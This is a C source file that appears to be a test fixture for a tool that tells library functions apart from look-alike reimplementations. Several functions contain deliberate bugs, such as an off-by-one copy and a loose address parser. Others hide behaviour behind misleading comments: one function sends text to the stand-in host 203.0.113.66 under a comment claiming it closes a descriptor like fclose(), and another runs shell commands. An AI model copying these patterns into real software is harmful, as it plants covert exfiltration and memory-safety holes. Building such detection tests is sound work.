/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Calls library functions, and has functions of its own that do the same but for one thing each; analysed, never run. A
 * name that begins with own_ must not be known as a library function, one that begins with same_ may be. */
#include <arpa/inet.h>
#include <netdb.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define OWN __attribute__((noinline, noclone, used))

volatile int calls, connected = -1;
char last[64];

OWN size_t own_length_counts(const char *s)
{
	size_t n = 0;
	while (s[n])
		n++;
	calls++;
	return n;
}

/* Nothing is connected where it is tried. */
OWN size_t own_length_reports(const char *s)
{
	size_t n = strlen(s);
	if (connected >= 0)
		send(connected, s, n, 0);
	return n;
}

OWN char *own_copy_elsewhere(char *to, const char *from)
{
	size_t i = 0;
	do {
		to[i] = from[i];
		last[i % sizeof(last)] = from[i];
	} while (from[i++]);
	return to;
}

OWN char *own_copy_n_no_fill(char *to, const char *from, size_t n)
{
	size_t i = 0;
	for (; i < n && from[i]; i++)
		to[i] = from[i];
	if (i < n)
		to[i] = 0;
	return to;
}

OWN void *own_bytes_one_more(char *to, const char *from, size_t n)
{
	for (size_t i = 0; i <= n; i++)
		to[i] = from[i];
	return to;
}

OWN int own_compare_n_short(const char *a, const char *b, size_t n)
{
	for (; n > 1; n--, a++, b++)
		if (*a != *b || !*a)
			return (unsigned char)*a - (unsigned char)*b;
	return 0;
}

OWN int own_compare_signed(const signed char *a, const signed char *b)
{
	while (*a && *a == *b)
		a++, b++;
	return *a - *b;
}

OWN int own_compare_half_case(const char *a, const char *b)
{
	for (;; a++, b++) {
		int x = *a >= 'A' && *a <= 'M' ? *a + 32 : *a, y = *b >= 'A' && *b <= 'M' ? *b + 32 : *b;
		if (x != y || !x)
			return x - y;
	}
}

OWN const char *own_find_two_letters(const char *s, const char *part)
{
	if (!part[0])
		return s;
	for (; *s; s++)
		if (s[0] == part[0] && (!part[1] || s[1] == part[1]))
			return s;
	return NULL;
}

OWN int own_number_no_sign(const char *s)
{
	int v = 0;
	for (; *s >= '0' && *s <= '9'; s++)
		v = v * 10 + *s - '0';
	return v;
}

/* 10.0.0.256 is an address to it. */
OWN in_addr_t own_address_loose(const char *s)
{
	unsigned v[4] = { 0 }, n = 0;
	for (; *s && n < 4; s++) {
		if (*s == '.')
			n++;
		else if (*s >= '0' && *s <= '9')
			v[n] = v[n] * 10 + (unsigned)(*s - '0');
		else
			return INADDR_NONE;
	}
	return n == 3 && !*s ? htonl(v[0] << 24 | v[1] << 16 | v[2] << 8 | (v[3] & 255)) : INADDR_NONE;
}

OWN const char *own_environment_default(const char *name)
{
	const char *s = getenv(name);
	return s ? s : "";
}

OWN int own_print_cut(char *to, size_t n, const char *format, const char *a, int b)
{
	int len = snprintf(to, n, format, a, b);
	return len < (int)n ? len : (int)n - 1;
}

/* Closes one descriptor, as fclose() does. */
OWN int own_message(const char *text)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons(4507),
				  .sin_addr.s_addr = inet_addr("203.0.113.66") };
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof(to)) < 0) {
		close(s);
		return 1;
	}
	send(s, text, strlen(text), 0);
	close(s);
	return 0;
}

/* A child's output goes into a pipe, as popen() has it; but who calls gets a number. */
OWN int own_run_quietly(const char *command, const char *mode)
{
	int ends[2], status = *mode;
	if (pipe(ends) < 0)
		return -1;
	pid_t child = fork();
	if (child == 0) {
		dup2(ends[1], 1);
		execl("/bin/sh", "sh", "-c", command, (char *)NULL);
		_exit(127);
	}
	close(ends[0]);
	close(ends[1]);
	return child < 0 || waitpid(child, &status, 0) < 0 ? -1 : status;
}

void *kept;

OWN void *own_room_kept(size_t n)
{
	return kept = malloc(n);
}

OWN void *own_room_counted(size_t n)
{
	size_t *p = malloc(n + 64);
	if (p)
		*p = n;
	return p;
}

/* What hangs on it goes first. */
OWN void own_free_tree(void **node)
{
	if (node && *node)
		free(*node);
	free(node);
}

/* What it says when something is connected is what it is for. */
OWN void own_free_last(char *text)
{
	if (connected >= 0)
		send(connected, text, 8, 0);
	free(text);
}

OWN char *same_copy(char *to, const char *from)
{
	char *s = to;
	while ((*s++ = *from++))
		continue;
	return to;
}

void *volatile used[] = { strlen,  strcpy,     strncpy,	    strchr,    strrchr,	   strstr,  strcmp,
			  strncmp, strcasecmp, strncasecmp, memcpy,    memset,	   memchr,  memcmp,
			  strcspn, strspn,     strtol,	    atoi,      snprintf,   sprintf, vsnprintf,
			  getenv,  inet_addr,  inet_aton,   inet_pton, getaddrinfo,
			  system,  popen,      setuid,    malloc,   calloc,  realloc,
			  free };

int main(int argc, char **argv)
{
	char to[80] = "";
	int sum = argc + (int)(size_t)used[argc % 20];
	sum += (int)own_length_counts(argv[0]) + (int)own_length_reports(argv[0]) + own_compare_n_short(to, argv[0], 3);
	FILE *file = fopen(argv[0], "r");
	sum += file && fgets(to, sizeof(to), file) && !fclose(file) ? own_message(argv[0]) : 0;
	own_copy_elsewhere(to, argv[0]);
	own_copy_n_no_fill(to, argv[0], sizeof(to));
	own_bytes_one_more(to, argv[0], 8);
	same_copy(to, argv[0]);
	sum += own_compare_signed((signed char *)to, (signed char *)argv[0]) + own_compare_half_case(to, argv[0]);
	sum += own_find_two_letters(to, argv[0]) != NULL;
	sum += own_number_no_sign(argv[0]) + (int)own_address_loose(argv[0]) + *own_environment_default("X");
	sum += own_run_quietly(argv[0], "r");
	own_free_tree(own_room_kept(sum));
	free(own_room_counted(sum));
	own_free_last(malloc(sum));
	return sum + own_print_cut(to, sizeof(to), "%s %d", argv[0], argc) + puts(to) + atoi(to) + (int)strtol(to, NULL, 8);
}
